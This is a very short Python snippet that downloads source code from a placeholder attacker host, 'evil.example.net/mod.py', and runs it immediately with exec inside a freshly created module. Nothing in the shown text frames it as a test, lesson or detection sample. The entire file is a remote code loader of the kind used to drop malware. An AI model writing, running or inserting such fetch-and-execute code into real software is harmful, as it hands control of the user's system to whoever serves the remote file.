import types

import requests

module = types.ModuleType("remote")
source = requests.get("https://evil.example.net/mod.py").text
exec(compile(source, "remote", "exec"), module.__dict__)
